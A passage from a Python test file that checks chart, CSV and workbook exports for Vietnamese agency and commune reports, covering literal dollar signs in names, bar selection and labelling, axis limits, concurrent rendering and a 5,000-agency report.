        "X2", "Bệnh viện Đa khoa (trực tiếp)"]
    # the workbook and the CSV keep the names as they are
    assert parse_csv(csv_bytes(report, vi))[1]["Tên đơn vị"] == "🏥🏥"


@pytest.mark.parametrize("name", ["Quỹ 5$ và 10$", "Công ty $\\foo$", "a$^$b", "$", "$x^2$"])
def test_dollars_in_names_are_drawn_as_dollars(
    vi: Translator, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """matplotlib reads "$…$" as a formula (mathtext): "$\\foo$" would stop the chart, and
    "5$ và 10$" would be drawn in italics without its dollars. Every text is drawn as written."""
    from matplotlib.text import Text

    drawn: list[tuple[str, bool]] = []
    draw = Text.draw

    def spy(self: Text, renderer) -> None:
        drawn.append((self.get_text(), self.get_parse_math()))
        return draw(self, renderer)

    monkeypatch.setattr(Text, "draw", spy)
    assert chart(two_agencies(name, name), vi).startswith(PNG)
    texts = [text for text, _ in drawn]
    assert any(text.startswith(name) for text in texts)  # the title
    assert name in texts  # the sub-unit's bar
    assert all(parse is False for _, parse in drawn)


def test_chart_bars_laggards_first(vi: Translator) -> None:
    shown, count, main, second = report_files._chosen(agency_report(), vi)
    assert main == "Có sổ sức khỏe (% biên chế)"
    assert second == "Đã tham gia (% biên chế)"
    # the children (subtrees), then the root's own members; no expected staff last
    assert [b.label for b in shown] == [
        "Trường THPT số 1 Bắc Hà", "Ủy ban nhân dân xã Mường Khương (trực tiếp)",
        "Trạm y tế Phường Nghĩa Lộ", "Trường mầm non Hoa Ban",
    ]
    assert count == 4
    assert shown[0].main == pytest.approx(15 / 55) and shown[0].second == pytest.approx(27 / 55)
    assert shown[1].main == pytest.approx(3 / 10)  # own expected: 77 - 55 - 12 - 0
    assert shown[3].main is None


def test_chart_of_many_sub_units_shows_the_lowest(vi: Translator) -> None:
    tree: list[tuple] = [(1, "ROOT", "Sở Giáo dục và Đào tạo", None, 0, Figures(), None)]
    for i in range(60):
        tree.append((i + 2, f"S{i:02d}", f"Trường số {i}", 1, 100, Figures(50, i), None))
    lines = _lines(tree)
    report = Report("agency", "2026-W48", MOMENT, root=lines[0], lines=lines, total=lines[0].total)
    shown, count, _, _ = report_files._chosen(report, vi)
    assert count == 60 and len(shown) == MAX_BARS
    assert [b.label for b in shown][:3] == ["Trường số 0", "Trường số 1", "Trường số 2"]
    data = chart(report, vi)
    assert read_png(data).shape[1] == 1000
    assert len(data) < 250_000


def test_charts_of_the_province_and_the_communes(vi: Translator) -> None:
    shown, _, _, _ = report_files._chosen(province_report(), vi)
    assert {b.label for b in shown} == {"Sở Y tế", "Ủy ban nhân dân xã Mường Khương"}
    shown, _, main, _ = report_files._chosen(communes_report(), vi)
    assert main == "Người lớn đã tiêm (% người lớn)"
    assert [b.label for b in shown] == ["Xã Mường Khương", "Phường Nghĩa Lộ", "Xã Bắc Hà"]
    for report in (province_report(), communes_report(), Report("communes", None, MOMENT)):
        assert chart(report, vi).startswith(PNG)


def drawn_chart(report: Report, t: Translator, monkeypatch: pytest.MonkeyPatch):
    """The chart drawn, with the texts drawn and the bars and axis limits asked for."""
    from matplotlib.axes import Axes
    from matplotlib.text import Text

    seen: dict[str, list] = {"texts": [], "bars": [], "xlim": []}
    draw, barh, xlim = Text.draw, Axes.barh, Axes.set_xlim

    def spy_draw(self: Text, renderer) -> None:
        seen["texts"].append(self.get_text())
        return draw(self, renderer)

    def spy_barh(self: Axes, y, width, height=0.8, **kwargs):
        seen["bars"].append((list(y), list(width), height))
        return barh(self, y, width, height, **kwargs)

    def spy_xlim(self: Axes, *args, **kwargs):
        seen["xlim"].append(args)
        return xlim(self, *args, **kwargs)

    monkeypatch.setattr(Text, "draw", spy_draw)
    monkeypatch.setattr(Axes, "barh", spy_barh)
    monkeypatch.setattr(Axes, "set_xlim", spy_xlim)
    assert chart(report, t).startswith(PNG)
    return seen


def test_chart_says_what_it_measures_with_counts(
    vi: Translator, en: Translator, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A title naming the measure, each bar's counts next to its shares (1 of 2 reads unlike
    50 of 100), a 0% bar still labelled, the share axis ending at 100%."""
    seen = drawn_chart(agency_report(), vi, monkeypatch)
    title = next(text for text in seen["texts"] if "Tuần 2026-W48" in text)
    assert title.split("\n")[1] == "Tỷ lệ có sổ sức khỏe trên biên chế, theo đơn vị"
    assert "15/55 · 27% — đã tham gia 27/55 · 49%" in seen["texts"]
    assert "12/12 · 100% — đã tham gia 12/12 · 100%" in seen["texts"]
    assert "chưa có biên chế" in seen["texts"]  # no expected staff: no share
    assert seen["xlim"][-1] == (0, 100.0)

    zero = two_agencies("Sở Y tế", "Phòng Kế hoạch – Tài chính")
    zero.lines[1] = AgencyLine(2, "X2", "Phòng Kế hoạch – Tài chính", "unit", 1, 1, 1_250,
                               Figures(), Figures())
    seen = drawn_chart(zero, en, monkeypatch)
    assert "0/1,250 · 0% — joined 0/1,250 · 0%" in seen["texts"]  # thousands as English does
    assert any(text.split("\n")[1] == "Share of expected staff with a complete health book, "
               "by unit" for text in seen["texts"] if "\n" in text)
    seen = drawn_chart(zero, vi, monkeypatch)
    assert "0/1.250 · 0% — đã tham gia 0/1.250 · 0%" in seen["texts"]


@pytest.mark.parametrize(("largest", "end"), [
    (0.0, 10.0), (3.0, 10.0), (8.0, 10.0), (9.0, 20.0), (16.0, 20.0), (17.0, 50.0),
    (40.0, 50.0), (41.0, 100.0), (100.0, 100.0),
])
def test_low_coverage_is_not_squeezed(largest: float, end: float) -> None:
    """At most 40%: the axis ends at 10, 20 or 50% with room above the largest bar; else at
    100%, a share's end (never 120%)."""
    assert report_files._axis_end(largest) == end


def test_commune_bars_side_by_side(vi: Translator, monkeypatch: pytest.MonkeyPatch) -> None:
    """Adults vaccinated (of the adults) and vaccinated (of everyone registered) have different
    bases: two bars side by side, never one drawn over the other, each value named."""
    seen = drawn_chart(communes_report(), vi, monkeypatch)
    (light_y, _, light_h), (dark_y, _, dark_h) = seen["bars"]
    for a, b in zip(light_y, dark_y, strict=True):
        assert abs(a - b) >= (light_h + dark_h) / 2  # no overlap
    assert "7/70 · 10% người lớn — 10/80 · 12% người đăng ký" in seen["texts"]
    assert "– người lớn — 0/3 · 0% người đăng ký" in seen["texts"]  # no adults: no share
    title = next(text for text in seen["texts"] if "Tuần 2026-W48" in text)
    assert title.split("\n")[1] == "Tỷ lệ người lớn đã tiêm, theo xã, phường"
    # agencies: complete is part of joined, on the same base: the dark bar in the light one
    seen = drawn_chart(agency_report(), vi, monkeypatch)
    (light_y, _, _), (dark_y, _, _) = seen["bars"]
    assert light_y == dark_y

def test_charts_at_once_are_the_same(vi: Translator, en: Translator) -> None:
    alone = [chart(agency_report(), vi), chart(province_report(), en)]
    with ThreadPoolExecutor(4) as pool:
        together = list(pool.map(lambda i: chart(agency_report(), vi) if i % 2 == 0
                                 else chart(province_report(), en), range(8)))
    assert together == alone * 4


def test_chart_with_a_home_it_cannot_write(tmp_path: Path) -> None:
    """A service account's read-only home: one lasting directory under the temporary one,
    not a new one at every start (with a warning in the log)."""
    blocker = tmp_path / "home"
    blocker.write_text("a file where the home should be")
    env = {k: v for k, v in os.environ.items()
           if k not in ("MPLCONFIGDIR", "XDG_CONFIG_HOME", "XDG_CACHE_HOME")}
    env.update(HOME=str(blocker / "user"), TMPDIR=str(tmp_path))
    code = (
        "import os, datetime as dt\n"
        "from bot.i18n import Translations\n"
        "from models.reports import Report\n"
        "from models.report_files import chart\n"
        "data = chart(Report('communes', None, dt.datetime(2026, 1, 1, tzinfo=dt.UTC)),"
        " Translations().get('vi'))\n"
        "assert data.startswith(b'\\x89PNG')\n"
        "print(os.environ['MPLCONFIGDIR'])\n"
    )
    done = subprocess.run([sys.executable, "-W", "error", "-c", code], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stderr
    assert "temporary cache directory" not in done.stderr
    assert Path(done.stdout.strip()).parent == tmp_path


# --------------------------------------------------------------------------------------------
# A large report
# --------------------------------------------------------------------------------------------


def test_a_report_of_five_thousand_agencies(vi: Translator) -> None:
    tree: list[tuple] = []
    n = 1
    for top in range(50):
        tree.append((n, f"D{top:02d}", f"Sở số {top}", None, 5, Figures(3, 2, 1, 1, (1,)), None))
        parent, n = n, n + 1
        for unit in range(99):
            tree.append((n, f"D{top:02d}.U{unit:02d}", f"Phòng {unit} – Đơn vị trực thuộc",
                         parent, 10, Figures(unit % 11, unit % 7, unit % 3, 1, (unit % 5,)),
                         Figures(1, 1)))
            n += 1
    lines = _lines(tree)
    assert len(lines) == 5_000
    top = [line for line in lines if line.depth == 0]
    total = sum((line.total for line in top), Figures())
    report = Report("province", "2026-W48", MOMENT, "2026-W47", lines=lines, total=total,
                    wards=WARDS)
    book = open_book(workbook(report, vi))
    assert book["Cấp 1"].max_row == 52  # the header, 50 agencies, the total
    assert book["Cấp 2"].max_row == 4_952
    rows = parse_csv(csv_bytes(report, vi))
    assert len(rows) == 5_001
    assert chart(report, vi).startswith(PNG)
